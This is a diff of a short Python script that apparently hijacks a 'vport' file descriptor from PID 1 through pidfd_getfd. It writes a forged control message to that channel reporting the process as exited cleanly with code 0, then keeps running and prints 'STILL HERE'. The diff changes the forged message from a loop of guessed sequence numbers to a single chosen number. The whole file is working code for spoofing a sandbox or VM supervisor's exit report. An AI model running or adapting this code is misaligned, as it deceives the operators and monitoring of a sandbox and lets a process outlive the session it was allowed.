@@ -12,7 +12,7 @@ os.waitpid(1, 0x40000000)
 at = next(int(fd) for fd in os.listdir("/proc/1/fd") if "vport" in os.readlink("/proc/1/fd/" + fd))
 port = libc.syscall(438, os.pidfd_open(1), at, 0)
 payload = bytes(8)  # not signaled, code 0, and then nothing more
-for sequence in range(2, 8):  # what the agent has sent is not known exactly
-    os.write(port, struct.pack("<IHHII", 0x316B6C61, 21, 0, len(payload), sequence) + payload)
+# 0 was READY, 1 STARTED, 2 the line above
+os.write(port, struct.pack("<IHHII", 0x316B6C61, 21, 0, len(payload), 3) + payload)
 time.sleep(60)
 print("STILL HERE")
